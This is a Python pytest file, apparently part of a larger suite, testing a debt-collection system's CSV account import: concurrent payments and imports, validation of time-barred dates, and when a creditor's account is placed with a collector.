    """Run ``action`` in another thread (another process: the web UI, a payments import, a
    webhook) the first time the import reaches ``method`` of its upserter, once it has read
    what the action changes. The import goes on when the action has committed, or after a
    second if the action waits (for the locks the import holds). Returns a function that
    waits for the action to end and gives its failures."""
    original = getattr(AccountUpserter, method)
    failures: list[str] = []
    threads: list[threading.Thread] = []

    def act() -> None:
        try:
            action()
        except Exception as exc:
            failures.append(f"{type(exc).__name__}: {exc}")

    def wrapped(self: AccountUpserter, *args: Any, **kwargs: Any) -> Any:
        if not threads:
            threads.append(threading.Thread(target=act))
            threads[0].start()
            threads[0].join(1)
        return original(self, *args, **kwargs)

    monkeypatch.setattr(AccountUpserter, method, wrapped)

    def done() -> list[str]:
        assert threads, f"the import never reached {method}"
        threads[0].join(30)
        assert not threads[0].is_alive()
        return failures

    return done


def test_a_payment_committed_while_an_import_reads_its_account_is_not_undone(
    engine: Engine,
    tmp_path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The import read the account, then a payment of its whole balance committed: the
    import, which changes only the name, must not write back the balance, status and next
    contact it read (PostgreSQL's READ COMMITTED: the account is locked as it is read)."""
    from outreach.payments import record_payment

    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)
    done = _meanwhile(
        monkeypatch, "_account_updates", lambda: record_payment(engine, clock, "A-1", "120.50")
    )
    summary = run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", name="New Name")]), defaults, clock
    )
    assert done() == []
    assert summary.updated == 1
    account = accounts_by_reference(engine)["A-1"]
    assert account.name == "New Name"
    assert (account.balance_minor, account.status) == (0, "paid")
    assert (account.next_contact_at, account.closed_at) == (None, clock.now())


def test_a_number_marked_wrong_while_an_import_reads_it_stays_marked(
    engine: Engine,
    tmp_path: Path,
    defaults: ImportDefaults,
    clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The import read the voice line to change its consent, then a debtor's "wrong number"
    marked it: the import writes the consent, not the status it read."""
    run_import(engine, write_csv(tmp_path / "a.csv", [row("A-1")]), defaults, clock)

    def mark_wrong() -> None:
        with engine.begin() as connection:
            connection.execute(
                update(store.contact_points)
                .where(store.contact_points.c.channel == "voice")
                .values(status="wrong_number")
            )

    done = _meanwhile(monkeypatch, "_contact_update", mark_wrong)
    run_import(
        engine, write_csv(tmp_path / "b.csv", [row("A-1", voice_consent="true")]), defaults, clock
    )
    assert done() == []
    voice = [p for p in contacts_of(engine, "A-1") if p.channel == "voice"]
    assert [(p.status, p.consent) for p in voice] == [("wrong_number", True)]


def test_two_imports_at_once_sharing_a_new_reference_both_land(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    """The second reads the accounts once the first's batch has committed: it finds the
    accounts the first created and leaves them as they are, instead of inserting them too
    and failing on the unique reference with its batch rolled back."""
    if engine.dialect.name != "postgresql":
        pytest.skip("SQLite has one writer: the second import waits for the first's batch")
    rows = [row("R-1", balance="10.00"), row("R-2", balance="20.00")]
    first_file = write_csv(tmp_path / "a.csv", rows)
    second_file = write_csv(tmp_path / "b.csv", rows)
    applied = threading.Event()
    release = threading.Event()
    real_apply = AccountUpserter.apply

    def apply(self: AccountUpserter, records: list[Any]) -> Any:
        outcome = real_apply(self, records)
        if threading.current_thread().name == "first":
            applied.set()  # the batch's accounts are inserted, not yet committed
            release.wait(30)
        return outcome

    monkeypatch.setattr(AccountUpserter, "apply", apply)
    results: dict[str, ImportSummary | Exception] = {}

    def run(name: str, path: Path) -> None:
        try:
            results[name] = run_import(engine, path, defaults, clock)
        except Exception as exc:
            results[name] = exc

    first = threading.Thread(target=run, args=("first", first_file), name="first")
    second = threading.Thread(target=run, args=("second", second_file), name="second")
    first.start()
    assert applied.wait(30)
    second.start()
    _wait_for_a_lock_wait(engine)  # the second has reached the first's uncommitted batch
    release.set()
    first.join(60)
    second.join(60)
    assert not isinstance(results["first"], Exception), results["first"]
    assert not isinstance(results["second"], Exception), results["second"]
    assert (results["first"].created, results["second"].unchanged) == (2, 2)
    with engine.connect() as connection:
        runs = connection.execute(select(store.import_runs.c.finished_at)).scalars().all()
    assert len(runs) == 2 and None not in runs
    assert accounts_by_reference(engine)["R-2"].balance_minor == 2000


def _wait_for_a_lock_wait(engine: Engine) -> None:
    """Until a session waits for a lock another holds (PostgreSQL), at most 30 seconds."""
    import time

    waiting = select(func.count()).select_from(text("pg_locks")).where(text("NOT granted"))
    deadline = time.monotonic() + 30
    with engine.connect() as connection:
        while connection.execute(waiting).scalar_one() == 0:
            assert time.monotonic() < deadline, "the second import never waited"
            connection.rollback()
            time.sleep(0.05)


def test_the_day_a_debt_is_time_barred_is_kept_checked_and_changed_by_a_later_file(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    header = [*HEADER, "time_barred_on"]
    path = write_csv(
        tmp_path / "barred.csv",
        [
            row("T-1", time_barred_on="2026-06-30"),
            row("T-2", time_barred_on=""),
            row("T-3", time_barred_on="30/06/2026"),
            row("T-4", time_barred_on="2026-02-30"),
            row("T-5", time_barred_on="0001-01-01"),
        ],
        header,
    )
    summary, seen = _seen(engine, path, defaults, clock)
    assert (summary.created, summary.rejected) == (2, 3)
    assert {p.row: p.errors for p in seen} == {
        4: ["time_barred_on: '30/06/2026' is not an ISO date (YYYY-MM-DD)"],
        5: ["time_barred_on: '2026-02-30' is not a calendar date (day is out of range for month)"],
        6: ["time_barred_on: '0001-01-01' is out of range (years 1900 to 2199)"],
    }
    found = accounts_by_reference(engine)
    assert (found["T-1"].time_barred_on, found["T-2"].time_barred_on) == (date(2026, 6, 30), None)
    # The same file again changes nothing; a file without the column leaves the day alone.
    assert run_import(engine, path, defaults, clock).updated == 0
    run_import(engine, write_csv(tmp_path / "b.csv", [row("T-1", balance="99.00")]), defaults,
               clock)  # fmt: skip
    assert accounts_by_reference(engine)["T-1"].time_barred_on == date(2026, 6, 30)
    # A later file moves the day, sets it on an account that had none, or empties it.
    changed = write_csv(
        tmp_path / "c.csv",
        [row("T-1", time_barred_on="2026-12-01"), row("T-2", time_barred_on="2026-11-02")],
        header,
    )
    assert run_import(engine, changed, defaults, clock).updated == 2
    found = accounts_by_reference(engine)
    assert found["T-1"].time_barred_on == date(2026, 12, 1)
    assert found["T-2"].time_barred_on == date(2026, 11, 2)
    cleared = write_csv(tmp_path / "d.csv", [row("T-1", time_barred_on="")], header)
    assert run_import(engine, cleared, defaults, clock).updated == 1
    assert accounts_by_reference(engine)["T-1"].time_barred_on is None


def test_a_creditors_account_placed_with_a_debt_collector_says_since_when(
    engine: Engine, tmp_path: Path, defaults: ImportDefaults, clock: FixedClock
) -> None:
    """The import that turns an account from the creditor's (``first_party``) into a debt
    collector's (``third_party``) notes when: the creditor's messages before it are not the
    collector's (from a moment after the change: a clock running ahead in another process
    must not date a creditor's message after it). The same file again leaves the time; the
    creditor taking it back clears it."""
    header = [*HEADER, "collector_type"]

    def load(name: str, **types: str) -> ImportSummary:
        rows = [row(ref, collector_type=kind) for ref, kind in types.items()]
        return run_import(engine, write_csv(tmp_path / name, rows, header), defaults, clock)

    load("a.csv", C_1="first_party", C_2="third_party")
    found = accounts_by_reference(engine)
    # A debt collector's account from its first import: every message is the collector's.
    assert (found["C_1"].collector_since, found["C_2"].collector_since) == (None, None)
    clock.advance(timedelta(days=3))
    placed_at = clock.now() + CLOCK_SKEW
    assert load("b.csv", C_1="third_party", C_2="third_party").updated == 1
    found = accounts_by_reference(engine)
    assert (found["C_1"].collector_since, found["C_2"].collector_since) == (placed_at, None)
    # The same file again, or one without the column, changes nothing.
    clock.advance(timedelta(days=1))
    summary = load("b.csv", C_1="third_party", C_2="third_party")
    assert (summary.updated, summary.unchanged) == (0, 2)
    run_import(engine, write_csv(tmp_path / "c.csv", [row("C_1", balance="99.00")]), defaults,
               clock)  # fmt: skip
    assert accounts_by_reference(engine)["C_1"].collector_since == placed_at
    # Back with the creditor: all its messages are the creditor's own again.
    assert load("d.csv", C_1="first_party").updated == 1
    assert accounts_by_reference(engine)["C_1"].collector_since is None
    # Placed again later: the collector counts from the second placing.
    clock.advance(timedelta(days=1))
    load("e.csv", C_1="third_party")
    assert accounts_by_reference(engine)["C_1"].collector_since == clock.now() + CLOCK_SKEW
